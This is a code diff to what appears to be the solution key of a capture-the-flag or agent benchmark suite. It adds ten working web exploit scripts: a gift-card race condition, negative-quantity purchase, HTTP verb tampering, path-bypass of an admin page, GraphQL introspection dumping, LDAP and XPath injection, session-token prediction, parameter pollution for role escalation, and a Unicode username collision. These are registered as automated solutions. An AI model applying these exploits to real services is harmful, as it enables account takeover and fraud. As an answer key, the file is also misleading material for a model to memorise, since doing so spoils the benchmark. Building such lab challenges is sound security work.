@@ -46,8 +46,8 @@ def flag(text):
 SEND = """
 import json
 
-def send(path, data=None, headers=None):
-    request = urllib.request.Request(BASE + path, data, headers or {})
+def send(path, data=None, headers=None, method=None):
+    request = urllib.request.Request(BASE + path, data, headers or {}, method=method)
     try:
         return OPENER.open(request).read().decode()
     except urllib.error.HTTPError as ex:
@@ -320,6 +320,102 @@ load(state)
 print(cmd('flag').split(': ')[1])
 """
 
+RACE_GIFTCARD = """
+import threading
+code = open('giftcard.txt').read().strip()
+start = threading.Barrier(8)
+
+def redeem():
+    start.wait()
+    post('/redeem', code=code)
+
+threads = [threading.Thread(target=redeem) for _ in range(8)]
+for t in threads:
+    t.start()
+for t in threads:
+    t.join()
+print(flag(post('/buy', item='flag')))
+"""
+
+NEGATIVE_QTY = """
+prices = dict(re.findall(r'^(\\w+): (\\d+)$', get('/items'), re.M))
+post('/order', item='pen', quantity=-int(prices['flag']))
+print(flag(post('/order', item='flag', quantity=1)))
+"""
+
+VERB_TAMPER = """
+allowed = OPENER.open(urllib.request.Request(BASE + '/admin', method='OPTIONS')).headers['Allow']
+for method in allowed.replace(' ', '').split(','):
+    page = send('/admin', method=method)
+    if 'redline{' in page:
+        print(flag(page))
+        break
+"""
+
+PATH_BYPASS = """
+for path in ('/admin/', '/Admin', '/./admin', '/%61dmin', '/x/../admin'):
+    page = get(path)
+    if 'redline{' in page:
+        print(flag(page))
+        break
+"""
+
+GRAPHQL = """
+def gql(query):
+    body = json.dumps({'query': query}).encode()
+    return json.loads(send('/graphql', body, {'Content-Type': 'application/json'}))
+
+schema = gql('{ __schema { types { name fields { name type { name ofType { name } } } } } }')
+types = {t['name']: t for t in schema['data']['__schema']['types']}
+for field in types['Query']['fields']:
+    kind = field['type']['name'] or field['type']['ofType']['name']
+    if types[kind]['fields']:
+        names = ' '.join(f['name'] for f in types[kind]['fields'])
+        answer = json.dumps(gql('{ %s { %s } }' % (field['name'], names)))
+        if 'redline{' in answer:
+            print(flag(answer))
+            break
+"""
+
+LDAP_INJECTION = """
+print(flag(post('/login', user='admin', password='*')))
+"""
+
+SESSION_PREDICT = """
+import calendar, hashlib, time
+
+def unix(stamp):
+    return calendar.timegm(time.strptime(stamp, '%Y-%m-%dT%H:%M:%SZ'))
+
+mine = json.loads(post('/api/login', user='guest', password='guest'))
+issued = unix(mine['issued'])
+shapes = ['{u}{t}', '{u}:{t}', '{t}:{u}', '{u}-{t}', '{u}|{t}', '{t}{u}']
+algo, shape = next(
+    (a, s) for a in ('md5', 'sha1', 'sha256') for s in shapes
+    if hashlib.new(a, s.format(u='guest', t=issued).encode()).hexdigest() == mine['session']
+)
+online = json.loads(get('/api/online'))['online']
+since = unix(next(u['since'] for u in online if u['user'] == 'admin'))
+session = hashlib.new(algo, shape.format(u='admin', t=since).encode()).hexdigest()
+print(flag(send('/api/admin', headers={'Authorization': 'Bearer ' + session})))
+"""
+
+PARAM_POLLUTION = """
+fields = [('user', 'ctf'), ('password', 'hunter22'), ('role', 'member'), ('role', 'admin')]
+send('/signup', urllib.parse.urlencode(fields).encode())
+print(flag(post('/login', user='ctf', password='hunter22')))
+"""
+
+XPATH_INJECTION = """
+print(flag(get('/lookup?name=' + urllib.parse.quote("x' or '1'='1"))))
+"""
+
+UNICODE_NAME = """
+wide = ''.join(chr(ord(c) + 0xFEE0) for c in 'admin')
+post('/register', user=wide, password='hunter22')
+print(flag(post('/login', user='admin', password='hunter22')))
+"""
+
 SOLUTIONS: dict[str, list[Step]] = {
     # tier 1
     "enc-base64": [{"bash": "base64 -d message.txt"}, {"submit": "{last}"}],
@@ -451,4 +547,14 @@ SOLUTIONS: dict[str, list[Step]] = {
     "web-nosql-injection": py(HTTP + SEND + NOSQL_INJECTION),
     "web-header-trust": py(HTTP + SEND + HEADER_TRUST),
     "svc-deserialize": py(TCP + DESERIALIZE),
+    "web-race-giftcard": py(HTTP + RACE_GIFTCARD),
+    "web-negative-qty": py(HTTP + NEGATIVE_QTY),
+    "web-verb-tamper": py(HTTP + SEND + VERB_TAMPER),
+    "web-path-bypass": py(HTTP + PATH_BYPASS),
+    "web-graphql": py(HTTP + SEND + GRAPHQL),
+    "web-ldap-injection": py(HTTP + LDAP_INJECTION),
+    "web-session-predict": py(HTTP + SEND + SESSION_PREDICT),
+    "web-param-pollution": py(HTTP + SEND + PARAM_POLLUTION),
+    "web-xpath-injection": py(HTTP + XPATH_INJECTION),
+    "web-unicode-name": py(HTTP + UNICODE_NAME),
 }
